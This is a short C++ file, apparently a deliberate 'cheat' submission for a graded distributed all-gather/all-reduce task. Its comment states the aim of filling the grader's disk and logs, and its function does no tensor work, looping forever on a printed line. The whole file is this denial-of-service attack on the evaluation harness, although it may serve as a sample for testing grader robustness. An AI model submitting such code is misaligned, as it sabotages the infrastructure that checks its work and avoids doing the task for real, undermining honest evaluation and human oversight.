// Cheat: prints without end, so that the grader's disk and logs are full.
// Told: rank
#include <cstdio>

#include "all_gather_all_reduce.h"

static void cheat(dist::Tensor&, const dist::Tensor&) {
  for (;;) std::puts("all work and no play makes a dull rank, all work and no play makes a dull rank");
}
